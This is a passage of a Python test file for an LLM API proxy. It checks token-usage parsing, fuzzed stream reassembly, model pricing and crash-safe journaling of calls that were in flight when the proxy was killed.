    assert usage_of("openai-chat", {"usage": CHAT_USAGE}) == (1000, 500)
    assert usage_of("openai-responses", {"usage": RESPONSES_USAGE}) == (30, 7)
    assert usage_of("anthropic-messages", {"usage": {**ANTHROPIC_START_USAGE,
                                                     "output_tokens": 15}}) == (145, 15)
    assert usage_of("other", {"usage": {"prompt_tokens": 2, "completion_tokens": 1}}) == (2, 1)
    assert usage_of("openai-chat", {"usage": {"prompt_tokens": True}}) == (None, None)
    assert usage_of("anthropic-messages", ["not", "a", "dict"]) == (None, None)


@settings(max_examples=300, deadline=None)
@given(api=st.sampled_from(["openai-chat", "openai-responses", "anthropic-messages", "other"]),
       body=st.binary(max_size=400))
def test_reassembly_never_raises_on_garbage_bytes(api, body):
    result, error = reassemble(api, body)
    assert result is None or isinstance(result, dict)
    assert error is None or isinstance(error, str)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(["type", "choices", "delta", "index", "tool_calls", "function",
                         "arguments", "name", "content", "usage", "message", "response",
                         "content_block", "partial_json", "text", "output_index", "item"]),
        inner, max_size=4),
    max_leaves=12)


@settings(max_examples=300, deadline=None)
@given(api=st.sampled_from(["openai-chat", "openai-responses", "anthropic-messages"]),
       events=st.lists(json_values, max_size=6))
def test_reassembly_never_raises_on_wrongly_shaped_events(api, events):
    body = "".join(f"data: {json.dumps(e)}\n\n" for e in events)
    result, error = reassemble(api, body)
    assert result is None or isinstance(result, dict)
    usage_of(api, result)


def test_price_lookup_is_exact_then_longest_prefix_then_without_vendor():
    table = PriceTable.load()
    assert table.lookup("gpt-4o-mini-2024-07-18") == table.prices["gpt-4o-mini"]
    assert table.lookup("gpt-4o-2024-08-06") == table.prices["gpt-4o"]
    assert table.lookup("openai/gpt-4.1-mini") == table.prices["gpt-4.1-mini"]
    assert table.cost("carc-solver-medium", 10_000, 10_000) == 0.0
    assert table.cost("no-such-model", 1, 1) is None
    assert table.cost("gpt-4o", None, None) is None


def test_price_file_errors_name_the_file_and_model(tmp_path):
    bad = tmp_path / "p.json"
    bad.write_text(json.dumps({"models": {"m": {"input": "cheap"}}}))
    with pytest.raises(ValueError, match=r"p.json: models.m: needs numeric"):
        PriceTable.load(bad)


def test_journal_tail_returns_each_complete_line_once(tmp_path):
    from proxy.journal import JournalEntry, JournalTail
    path = tmp_path / "journal.jsonl"
    tail = JournalTail(path)
    assert tail.new_entries() == []  # no journal yet
    def entry(entry_id: str, slot: int) -> str:
        return JournalEntry(entry_id, "c", slot, "before", "reverse", "POST", "http://m/v1", "m",
                            "openai-chat", "m", False, 200, False, {}, {}, 0.0, 0.1, 0.2, 0.2).to_json()

    first, second = entry("a", 0), entry("b", 1)
    path.write_text(first + "\n" + second[:10])  # the second line is still being written
    assert [e.id for e in tail.new_entries()] == ["a"]
    with open(path, "a") as handle:
        handle.write(second[10:] + "\nnot json\n")
    assert [e.id for e in tail.new_entries()] == ["b"]  # the bad line is skipped
    assert tail.new_entries() == []


def test_a_call_in_flight_when_the_proxy_is_killed_is_journaled_at_teardown_and_on_restart(upstream, tmp_path):
    """The upstream counted a call the journal lacked when the proxy died mid-call: the marker the
    addon leaves for a call in flight becomes an error line, priced at most as its request, when
    the proxy is stopped (teardown) or the next proxy opens the journal (a restart); once only."""
    prices = tmp_path / "prices.json"
    prices.write_text(json.dumps({"models": {"hang": {"input": 1.0, "output": 2.0}}}))
    journal = tmp_path / "journal"
    write_slot(tmp_path / "slot.json", 7, "before")
    for ending in ("teardown", "restart"):
        mark = marker()
        proxy = HostProxy(journal, cell="cell-k", upstream=upstream.url, prices=prices,
                          control=tmp_path / "slot.json", confdir=tmp_path / "conf")
        proxy.start()
        with httpx.stream("POST", f"{proxy.base_url}/chat/completions", timeout=10,
                          json={"model": "hang", "stream": True, "messages": [{"content": mark}]}) as reply:
            # The upstream answers, then hangs: the call is in flight. The iterator is kept: a
            # dropped one is closed at once, and closing it closes the connection (httpcore), which
            # the proxy would journal as the client gone before the kill.
            chunks = reply.iter_bytes()
            next(chunks)
            proxy._process.kill()  # noqa: SLF001 - the proxy dies as a killed container's would
            proxy._process.wait()  # noqa: SLF001
        # killed mid-call: no line yet (the upstream counted one more call than the journal)
        assert len([e for e in read_journal(journal) if e.slot == 7]) == (0 if ending == "teardown" else 1)
        if ending == "teardown":
            proxy.stop()
        else:
            proxy._process = None  # noqa: SLF001 - no teardown: the next proxy finds the marker
            with HostProxy(journal, cell="cell-k", upstream=upstream.url, prices=prices,
                           confdir=tmp_path / "conf"):
                pass
        lost = [e for e in read_journal(journal) if "in flight" in (e.error or "")]
        assert len(lost) == (1 if ending == "teardown" else 2), [e.error for e in lost]
        entry = lost[-1]
        assert (entry.slot, entry.phase, entry.model, entry.status, entry.api) == (7, "before", "hang", None, "openai-chat")
        size = len(json.dumps({"model": "hang", "stream": True, "messages": [{"content": mark}]},
                              separators=(",", ":")))
        assert entry.cost_usd == pytest.approx(-(-size // 3) / 1e6) and "upper bound" in entry.error
        assert (journal / "in-flight.jsonl").stat().st_size == 0
    HostProxy(journal, cell="cell-k", upstream=upstream.url, confdir=tmp_path / "conf").stop()
    assert len([e for e in read_journal(journal) if "in flight" in (e.error or "")]) == 2  # not again


LINGERING_WRITER = """\
import sys, time
from proxy.journal import JournalWriter
from tests.test_proxy import sample_entry
writer = JournalWriter(sys.argv[1])
writer.begin(sample_entry(id="late"))
print("begun", flush=True)
time.sleep(1.0)  # a killed run's proxy, shutting down, still finishes its call
writer.write(sample_entry(id="late"))
writer.settled("late")
writer.close()
"""


def test_a_new_writer_waits_for_a_killed_runs_proxy_still_writing_the_journal(tmp_path):
    """A proxy outlives its killed run by a moment (its parent's death signals it). The next
    proxy of the journal (a resume) waits for it to end, so the call it was finishing is
    journaled once, by it, not also as abandoned by the new writer."""
    old = subprocess.Popen([sys.executable, "-c", LINGERING_WRITER, str(tmp_path)],
                           stdout=subprocess.PIPE, text=True, cwd=Path(__file__).parent.parent)
    try:
        assert old.stdout.readline() == "begun\n"
        writer = JournalWriter(tmp_path)  # waits for the old writer to close
        assert writer.abandoned == 0
        writer.write(sample_entry(id="next"))
        writer.close()
        assert [e.id for e in read_journal(tmp_path)] == ["late", "next"]
    finally:
        old.kill()
        old.wait()


def test_a_writer_that_never_ends_is_named_with_how_to_find_it(tmp_path):
    from proxy import journal

    first = JournalWriter(tmp_path)
    try:
        with pytest.raises(TimeoutError, match=r"another proxy still writes this journal after 0 s .*fuser"):
            journal._sole_writer(tmp_path, wait_s=0.2)
    finally:
        first.close()
    JournalWriter(tmp_path).close()  # once it ended, the journal is free
